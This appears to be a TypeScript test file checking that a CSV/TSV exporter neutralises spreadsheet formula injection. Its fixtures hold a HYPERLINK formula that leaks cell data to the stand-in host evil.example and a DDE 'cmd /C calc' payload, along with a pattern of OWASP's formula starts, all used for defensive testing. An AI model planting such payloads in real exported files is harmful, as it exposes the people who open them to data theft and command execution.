import { describe, expect, test } from 'vitest';
import { formatRow, parseDelimited } from './delimited.js';

// Issue 33, item 8: a cell's text may come from another learner's public text, so no place where any
// spreadsheet starts a cell may start a formula, whichever separator the spreadsheet splits on.

/** The cells a spreadsheet sees in `line` when it splits on `separator` and ignores quotes. */
const naiveCells = (line: string, separator: string) => line.replace(/\r\n$/, '').split(separator);

/** Whether a spreadsheet would run `cell` (OWASP's list of formula starts). */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell.replace(/^"/, ''));

const HYPERLINK = 'hola;=HYPERLINK("https://evil.example/?"&A1;"click")';

describe('the formula guard of CSV and TSV exports', () => {
  test('a formula after a `;` inside a cell is guarded: German spreadsheets split there', () => {
    for (const format of ['csv', 'tsv'] as const) {
      const line = formatRow(format, ['perro', HYPERLINK]);
      for (const cell of naiveCells(line, ';')) expect(runsAsFormula(cell), `${format}: ${cell}`).toBe(false);
      expect(line).toContain(`;'=HYPERLINK(`);
    }
  });

  test('a cell with `;` but no quote or comma is quoted, so a spreadsheet splitting on `;` keeps it whole', () => {
    expect(formatRow('csv', ['a;=1+1', 'b'])).toBe(`"a;'=1+1",b\r\n`);
    expect(formatRow('tsv', ['a;b', 'c'])).toBe(`"a;b"\tc\r\n`);
  });

  test('every place after a comma, a tab or a line break is guarded too, whatever the format', () => {
    const cell = 'x,@SUM(1)\t+2\r\n-3\n=4';
    for (const format of ['csv', 'tsv'] as const) {
      const line = formatRow(format, [cell]);
      for (const separator of [',', ';', '\t', '\n', '\r']) {
        for (const part of naiveCells(line, separator)) {
          expect(runsAsFormula(part.replace(/^[\r\n]/, '')), `${format} split on ${JSON.stringify(separator)}`).toBe(false);
        }
      }
    }
  });

  test("OWASP's starts at the cell's start: = + - @ tab and carriage return, also inside the quotes", () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const cell = formatRow('csv', [`${start}cmd|' /C calc'!A0`]).replace(/\r\n$/, '');
      // the apostrophe comes first inside the quotes, where a spreadsheet looks once it takes them off
      expect(cell.replace(/^"/, '').startsWith(`'${start}cmd`), JSON.stringify(cell)).toBe(true);
      expect(runsAsFormula(cell)).toBe(false);
    }
  });

  test('an export imports back as it was, guards and all', () => {
    const cells = [HYPERLINK, '=cmd', '-1', 'a\t=b', 'x;y', 'plain', 'Hoy =cmd aquí.', 'it\'s "quoted"', '\t\t=', ''];
    for (const format of ['csv', 'tsv'] as const) {
      expect(parseDelimited(formatRow(format, cells), format, 10)).toEqual([cells]);
    }
  });

  test('a cell without a separator is written plainly; one with any spreadsheet’s separator is quoted', () => {
    expect(formatRow('csv', ['perro', 'dog', '', 'Hoy =cmd aquí.', '2'])).toBe('perro,dog,,Hoy =cmd aquí.,2\r\n');
    expect(formatRow('tsv', ['perro', 'dog', 'a, b'])).toBe('perro\tdog\t"a, b"\r\n');
  });
});
